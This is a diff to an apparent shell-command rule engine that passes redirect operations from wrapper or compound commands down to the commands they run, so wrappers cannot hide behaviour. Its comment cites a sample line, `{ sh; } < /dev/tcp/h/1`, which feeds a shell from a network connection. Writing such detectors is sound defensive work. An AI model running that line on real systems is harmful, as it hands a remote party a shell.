@@ -10,19 +10,44 @@ import { Subject, SubjectIndex } from './subject.js';
 /** What the rules look at: each command with its operations and its neighbours, in walk order. */
 export function buildSubjects(commands: WalkedCommand[], ops: Operation[], specs: SpecTable): Subject[] {
   const byCommand = new Map<number, Operation[]>();
+  const byRedirect = new Map<string, Operation[]>();
   for (const o of ops) {
     const list = byCommand.get(o.command);
     if (list) list.push(o);
     else byCommand.set(o.command, [o]);
+    if (o.source === 'redirect') {
+      const k = `${o.span.start}:${o.span.end}`;
+      const r = byRedirect.get(k);
+      if (r) r.push(o);
+      else byRedirect.set(k, [o]);
+    }
   }
   const all: Subject[] = [];
   const index = new SubjectIndex();
   for (const c of commands) {
-    const s = new Subject(c, byCommand.get(c.id) ?? [], all, specs, index);
+    const s = new Subject(c, withInheritedOps(c, byCommand.get(c.id) ?? [], byRedirect), all, specs, index);
     all.push(s);
     index.add(s);
   }
   return all;
+}
+
+/**
+ * A redirect written on a wrapper or a compound command (`sudo cat /dev/zero > f`,
+ * `{ sh; } < /dev/tcp/h/1`) is opened once by the shell, so its operation belongs to the command
+ * it is written on; but the command inside reads and writes through it. Rules see it on both, so
+ * a wrapper never hides what the command it runs does.
+ */
+function withInheritedOps(c: WalkedCommand, own: Operation[], byRedirect: Map<string, Operation[]>): Operation[] {
+  let out = own;
+  for (const r of c.redirects) {
+    if (!r.inherited || r.path === null) continue;
+    const from = byRedirect.get(`${r.path.span.start}:${r.path.span.end}`) ?? byRedirect.get(`${r.span.start}:${r.span.end}`);
+    if (!from) continue;
+    if (out === own) out = own.slice();
+    for (const o of from) if (o.command !== c.id && !out.includes(o)) out.push(o);
+  }
+  return out;
 }
 
 export function applyGuards(rules: RuleSet, commands: WalkedCommand[], ops: Operation[], specs: SpecTable): Finding[] {
